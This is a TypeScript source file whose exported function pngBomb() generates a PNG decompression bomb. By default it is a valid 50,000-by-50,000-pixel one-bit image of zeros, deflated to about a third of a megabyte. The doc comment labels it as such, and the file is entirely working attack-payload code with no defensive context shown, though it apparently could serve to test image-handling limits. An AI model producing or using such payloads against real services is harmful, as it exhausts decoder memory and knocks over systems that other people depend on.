import { crc32, createDeflate } from 'node:zlib';

const SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const ROWS_AT_ONCE = 500;

/** A decompression bomb: a valid two-colour image with 2.5 billion pixels by default, in a third of a megabyte. */
export async function pngBomb(side = 50_000): Promise<Buffer> {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const data = chunk('IDAT', await zeros(side, Math.ceil(1 + side / 8)));
  return Buffer.concat([SIGNATURE, chunk('IHDR', header), data, chunk('IEND', Buffer.alloc(0))]);
}

async function zeros(rows: number, rowBytes: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 1 });
  const some = Buffer.alloc(rowBytes * ROWS_AT_ONCE);
  const write = async (): Promise<void> => {
    for (let at = 0; at < rows; at += ROWS_AT_ONCE)
      if (!deflate.write(some)) await new Promise((resolve) => deflate.once('drain', resolve));
    deflate.end();
  };
  const written = write();
  const packed: Buffer[] = [];
  for await (const part of deflate) packed.push(part as Buffer);
  await written;
  return Buffer.concat(packed);
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const numbers = Buffer.alloc(8);
  numbers.writeUInt32BE(data.length, 0);
  numbers.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([numbers.subarray(0, 4), body, numbers.subarray(4)]);
}
